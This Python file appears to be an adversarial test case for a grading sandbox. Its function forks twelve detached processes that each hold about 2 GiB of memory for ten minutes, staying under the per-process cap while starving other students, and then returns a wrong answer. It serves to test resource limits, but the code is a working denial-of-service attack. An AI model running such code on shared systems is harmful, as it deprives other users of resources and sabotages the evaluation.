"""Attack: memory spread over many processes. softmax_hbm_bytes forks a dozen processes that each stay under
the per-process address-space limit but together take far more memory than one student's share, and hold
it, so that concurrent students run out; it returns a wrong count."""

ZERO = ["softmax_hbm_bytes"]
HOGS = 12
CHUNK = 128 * 2**20
PER_HOG = 2 * 2**30


def softmax_hbm_bytes(n_rows, n_cols, elem_bytes, algorithm):
    import os as _os  # here, not at module level (R3.3)
    import time as _time

    for _ in range(HOGS):
        if _os.fork() == 0:
            _os.setsid()
            held = []
            try:
                while len(held) * CHUNK < PER_HOG:
                    held.append(bytearray(b"\1" * CHUNK))
            except MemoryError:
                pass
            _time.sleep(600)
            _os._exit(0)
    _time.sleep(5)
    return -1
